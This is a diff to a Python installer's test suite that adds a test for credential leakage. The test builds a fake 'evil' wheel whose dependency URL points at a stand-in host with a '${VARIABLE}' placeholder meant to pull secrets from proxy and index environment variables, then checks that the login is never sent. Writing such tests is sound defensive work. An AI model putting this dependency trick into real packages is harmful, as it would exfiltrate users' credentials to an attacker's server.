@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import os
 import re
+import zipfile
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 from typing import NamedTuple
@@ -25,6 +26,7 @@ from gpuinstall.sources.configuration import TRUST_FOLDER
 from gpuinstall.sources.session import Session
 from tests.hostile.test_addresses import TOKEN, Stranger
 from tests.lab.driver import NO_GPU
+from tests.lab.host import Answer
 
 HOST = "stranger.example"
 WHEEL = "filelock-3.0-py3-none-any.whl"
@@ -912,3 +914,41 @@ def test_an_index_of_a_project_in_the_folder_is_named_by_marker_too(
     done = here.run("lock", "-q", "--target", "cpu")
 
     assert stranger.log == [] or " says" in done.err
+
+
+@pytest.mark.heavy
+@pytest.mark.parametrize("variable", ["UV_DEFAULT_INDEX", "HTTPS_PROXY"])
+def test_no_variable_in_what_a_wheel_requires_is_sent(
+    here, stranger, tmp_path, variable
+):
+    wheel = tmp_path / "evil-1-py3-none-any.whl"
+    required = f"filelock @ {stranger.wheel}?x=${{{variable}}}"
+    texts = {
+        "METADATA": f"Metadata-Version: 2.1\nName: evil\nVersion: 1\nRequires-Dist: {required}\n",
+        "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        "RECORD": "",
+    }
+    with zipfile.ZipFile(wheel, "w") as archive:
+        for name, text in texts.items():
+            archive.writestr(f"evil-1.dist-info/{name}", text)
+    respond = stranger.respond
+
+    def answer(path, headers):
+        if path.endswith(wheel.name):
+            return Answer(body=wheel.read_bytes())
+        return respond(path.partition("?")[0], headers)
+
+    stranger.respond = answer
+    line = f"evil @ {stranger.url}/{wheel.name}"
+    write(here.folder, {"requirements.txt": f"torch\n{line}\n"})
+    index = here.environment["UV_DEFAULT_INDEX"].replace("://", f"://me:{LOGIN}@")
+    values = {
+        "UV_DEFAULT_INDEX": index,
+        "HTTPS_PROXY": f"http://me:{LOGIN}@127.0.0.1:9",
+    }
+
+    here.having(**values).run("lock", "-q", "--target", "cpu")
+
+    asked = [one.path for one in stranger.log]
+    assert any("?x=" in path for path in asked)
+    assert [path for path in asked if LOGIN in path] == []
